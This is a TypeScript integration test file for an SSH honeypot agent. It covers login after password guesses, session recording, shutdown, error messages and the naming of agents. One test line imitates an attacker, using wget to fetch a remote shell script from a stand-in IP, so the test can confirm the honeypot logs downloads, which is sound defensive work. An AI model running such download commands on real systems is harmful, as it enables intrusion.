import { execFile } from 'node:child_process';
import { existsSync, writeFileSync } from 'node:fs';
import { connect } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { until } from '../../../server/test/parts/machine/until.ts';
import { startCli } from '../parts/start-cli.ts';
import { type StartedService, startService } from '../parts/start-service.ts';

interface Kept {
  readonly user_token: string;
  readonly organization_id: string;
}

interface Sessions {
  readonly data: readonly Record<string, unknown>[];
}

interface Answer {
  readonly status: unknown;
  readonly stdout: string;
  readonly stderr: string;
}

/** Runs a line on the honeypot by the client of OpenSSH, which asks a program for the password. */
function ssh(port: string, password: string, line: string): Promise<Answer> {
  const askpass = join(service.dataDir, 'askpass');
  writeFileSync(askpass, `#!/bin/sh\necho ${password}\n`, { mode: 0o700 });
  const options = ['StrictHostKeyChecking=no', 'UserKnownHostsFile=/dev/null', 'IdentityFile=none', 'LogLevel=ERROR'];
  const words = [...options, 'NumberOfPasswordPrompts=1'].flatMap((option) => ['-o', option]);
  const env = { ...process.env, SSH_ASKPASS: askpass, SSH_ASKPASS_REQUIRE: 'force', DISPLAY: ':0' };
  return new Promise((resolve) => {
    execFile(
      'ssh',
      ['-F', '/dev/null', ...words, '-p', port, 'root@127.0.0.1', line],
      { env },
      (error, stdout, stderr) => resolve({ status: error?.code ?? 0, stdout, stderr }),
    );
  });
}

/** Whether somebody listens there. */
function answers(port: number): Promise<boolean> {
  return new Promise((resolve) => {
    const socket = connect(port, '127.0.0.1');
    socket.on('error', () => resolve(false));
    socket.on('connect', () => {
      socket.destroy();
      resolve(true);
    });
  });
}

let service: StartedService;
let kept: Kept;
beforeAll(async () => {
  service = await startService();
  kept = (await service.json('bootstrap')) as Kept;
}, 150_000);
afterAll(() => service?.stop());

describe('agent', { timeout: 120_000 }, () => {
  it('lets an OpenSSH client in after some guesses, and the service shows what was done', async () => {
    const env = {
      SERVICE_SSH_PORT: '0',
      SERVICE_SSH_HOST: '127.0.0.1',
      SERVICE_DATA_DIR: join(service.dataDir, 'agent'),
    };
    const agent = startCli(['agent', '--data-dir', service.dataDir], env);
    await agent.until('waits on port');
    const port = /waits on port (\d+)/.exec(agent.said())?.[1] ?? '';
    const line = 'uname -s; wget -q http://198.51.100.9/x.sh; nosuchthing';
    let answer: Answer = { stdout: '', stderr: '', status: null };
    for (let guess = 0; answer.status !== 127 && guess < 12; guess += 1) {
      answer = await ssh(port, `guess-${guess}`, line);
    }
    expect([answer.status, answer.stdout]).toEqual([127, 'Linux\n']);
    expect(answer.stderr).toContain('nosuchthing: command not found');
    agent.stop('SIGTERM');
    await agent.ended;
    const reply = await fetch(`${service.origin}/api/organizations/${kept.organization_id}/ssh-sessions`, {
      headers: { Authorization: `Bearer ${kept.user_token}` },
    });
    const { data } = (await reply.json()) as Sessions;
    expect(data).toHaveLength(1);
    expect(data[0]).toMatchObject({ username: 'root', command_count: 1, download_count: 1, has_recording: true });
  });

  it('ends when its command is killed, and leaves its directory in order', async () => {
    const env = {
      ...{ SERVICE_SSH_PORT: '0', SERVICE_SSH_HOST: '127.0.0.1' },
      SERVICE_DATA_DIR: join(service.dataDir, 'killed'),
    };
    for (const words of [['agent'], ['agent', '--json']]) {
      const agent = startCli([...words, '--data-dir', service.dataDir], env);
      await agent.until('waits on port');
      const port = Number(/waits on port (\d+)/.exec(agent.said())?.[1]);
      expect(await answers(port)).toBe(true);
      agent.stop('SIGKILL');
      await until(async () => !(await answers(port)));
      // What holds the directory is the last that an agent gives back, when everything is sent.
      await until(() => !existsSync(join(env.SERVICE_DATA_DIR, 'in-use')));
    }
  });

  it('says what to do when it cannot start', async () => {
    const without = await startCli(['agent', '--data-dir', join(service.dataDir, 'nothing')]).ended;
    expect([without.code === 0, without.stderr]).toEqual([false, expect.stringContaining('sundew agents create')]);
    const taken = new URL(service.origin).port;
    const beside = await startCli(['agent', '--data-dir', service.dataDir], {
      ...{ SERVICE_SSH_PORT: taken, SERVICE_SSH_HOST: '127.0.0.1' },
      SERVICE_DATA_DIR: join(service.dataDir, 'second'),
    }).ended;
    expect(beside.stderr).toContain('Set SERVICE_SSH_PORT to a free one');
  });

  it('says everything in lines of JSON to whoever asks for that', async () => {
    const linesOf = (text: string) =>
      text
        .trim()
        .split('\n')
        .map((line) => JSON.parse(line) as object);
    const without = await startCli(['agent', '--json', '--data-dir', join(service.dataDir, 'nothing')]).ended;
    expect(linesOf(without.stdout).at(-1)).toEqual({
      error: expect.stringContaining('sundew agents create'),
      code: 'check_failed',
    });
    const agent = startCli(['agent', '--json', '--data-dir', service.dataDir], {
      ...{ SERVICE_SSH_PORT: '0', SERVICE_SSH_HOST: '127.0.0.1', SERVICE_DATA_DIR: join(service.dataDir, 'third') },
    });
    await agent.until('waits on port');
    agent.stop('SIGTERM');
    expect(linesOf((await agent.ended).stdout)).toContainEqual({
      message: expect.stringContaining('The honeypot waits on port'),
    });
  });
});

describe('agents', { timeout: 120_000 }, () => {
  it('are renamed and revoked by their names', async () => {
    const made = (await service.json('agents', 'create', 'office')) as { id: string };
    expect(await service.json('agents', 'rename', 'office', 'lab')).toMatchObject({ id: made.id, name: 'lab' });
    const gone = await service.run('agents', 'revoke', 'office');
    expect([gone.code, gone.stderr]).toEqual([4, expect.stringContaining('npm run sundew -- agents list')]);
    expect(await service.json('agents', 'revoke', 'lab')).toMatchObject({ id: made.id });
    // A name is free again once its agent is revoked.
    const next = (await service.json('agents', 'create', 'lab')) as { id: string };
    expect(await service.json('agents', 'revoke', 'lab')).toMatchObject({ id: next.id });
  });
});
